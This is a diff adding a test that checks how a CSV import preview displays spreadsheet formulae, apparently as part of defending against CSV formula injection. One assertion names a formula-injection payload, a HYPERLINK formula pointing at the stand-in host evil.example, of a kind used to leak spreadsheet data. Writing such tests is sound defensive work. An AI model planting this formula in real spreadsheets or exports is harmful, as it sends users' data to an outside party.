@@ -166,3 +166,21 @@ def test_the_api_csv_escapes_formulae_and_keeps_numbers(client, booby_trapped):
         "-70.5",
         "2020",
     )
+
+
+def test_the_preview_shows_formulae_as_stored_without_the_quote(
+    staff_client, booby_trapped
+):
+    client = staff_client("Editors")
+    cells = _csv_cells(_export(client, PATH, CSV))
+    cells["Name (Spanish)"] = "=1+1"
+    out = io.StringIO()
+    csv.writer(out).writerows([list(cells), list(cells.values())])
+
+    preview = _upload(client, PATH, out.getvalue().encode())
+
+    html = preview.content.decode()
+    assert _row_types(preview) == ["update"]
+    assert "<del>Peñalolén</del><ins>=1+1</ins>" in html
+    assert "<span>=HYPERLINK(&quot;https://evil.example/?&quot;" in html
+    assert "&#x27;=" not in html.split('class="import-preview"')[1]
